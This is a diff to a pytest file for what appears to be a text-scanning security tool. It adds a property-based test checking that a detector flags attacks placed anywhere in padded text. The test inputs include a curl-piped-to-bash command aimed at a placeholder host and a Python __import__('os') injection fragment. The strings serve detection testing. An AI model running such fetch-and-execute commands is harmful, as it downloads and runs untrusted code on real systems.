@@ -5,7 +5,10 @@ from __future__ import annotations
 import time
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
+from keepstone.scan.text.payload import attack_in
 from tests.scan.judging import judged
 
 # Each would take minutes where a pattern tried every way to match it.
@@ -43,3 +46,11 @@ def test_no_text_keeps_its_reader_busy(kind: str, name: str) -> None:
     # A second or two on a machine that is busy; a square would be minutes.
     assert time.process_time() - start < 10
     assert not any("failed" in item.message for item in found)
+
+
+@given(st.integers(0, 3000), st.integers(0, 3000), st.sampled_from(["", "İ", "eval "]))
+def test_an_attack_is_found_wherever_it_stands(before: int, after: int, start: str) -> None:
+    text = f"{start}{'x ' * before}CURL http://h/x | bash{' y' * after}"
+    assert attack_in(text) is not None
+    text = f"{start}{'x ' * before}__import__('os'){' y' * after}"
+    assert attack_in(text) is not None
